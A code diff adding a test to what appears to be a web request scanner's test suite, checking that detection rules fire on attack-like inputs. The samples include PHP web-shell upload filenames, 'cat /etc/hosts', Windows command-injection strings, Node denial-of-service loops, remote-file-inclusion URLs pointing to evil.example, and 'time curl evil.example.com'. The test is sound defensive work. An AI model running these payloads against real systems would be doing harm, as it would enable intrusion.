@@ -105,3 +105,27 @@ t.test('scanner user agents', async (t) => {
   const f = scanRequest({ level: 1, path: null, query: null, headers: [['user-agent', 'Nikto/2.5']], cookies: [], body: null, bodyKind: null });
   t.ok(f.some((x) => x.rules.includes('scanner-user-agent')));
 });
+
+t.test('uploads, Windows loops, endless loops, RFI, bodies that read as forms', async (t) => {
+  const scan = (input: Partial<Parameters<typeof scanRequest>[0]>) => scanRequest({ level: 1, path: null, query: null, headers: [], cookies: [], body: null, bodyKind: null, ...input });
+  const mp = (filename: string) => `--b\r\nContent-Disposition: form-data; name="f"; filename="${filename}"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--b--\r\n`;
+  t.ok(scan({ body: mp('shell.php'), bodyKind: 'multipart', boundary: 'b' }).some((f) => f.rules.includes('upload-risky-filename')), 'a .php upload');
+  t.ok(scan({ body: mp('wp-config. php'), bodyKind: 'multipart', boundary: 'b' }).some((f) => f.rules.includes('upload-risky-filename')), 'space-padded extension');
+  t.same(scan({ body: mp('holiday photo.png'), bodyKind: 'multipart', boundary: 'b' }), [], 'an image upload passes');
+  t.ok(scan({ headers: [['x-filename', 'a.phtml']] }).some((f) => f.rules.includes('upload-risky-filename')), 'X-Filename header');
+  t.ok(scan({ body: 'code=cat /etc/hosts', bodyKind: 'text' }).length > 0, 'an undeclared body that reads as a form is inspected as one');
+  for (const [v, rule] of [
+    ['FOR /F "delims=" %~ IN (\'ECHO foo\') DO @Echo %G', 'cmdi-windows-for'],
+    ['IF %ERRORLEVEL% NEQ 0 echo test', 'cmdi-windows-if'],
+    ['while(!"");', 'node-dos-loop'],
+    ['while(new Date);', 'node-dos-loop'],
+    ['http://192.0.2.10/shell.txt', 'rfi-numeric-host'],
+    ['http://evil.example/shell.txt?', 'rfi-trailing-question'],
+    ['(system)(whoami)', 'php-function-call'],
+    ['time curl evil.example.com', 'cmdi-command-line'],
+  ] as const) {
+    const r = flagged(v, 'query');
+    t.ok(r.hit && r.rules.includes(rule), `${JSON.stringify(v)} -> ${rule} (${r.rules.join(',')})`);
+  }
+  for (const v of ['while (i < 10) { i++; }', 'python 3.12', 'https://example.com/search?', 'see (note)(1)']) t.notOk(flagged(v, 'body', 2).hit, `benign: ${v} (${flagged(v, 'body', 2).rules.join(',')})`);
+});
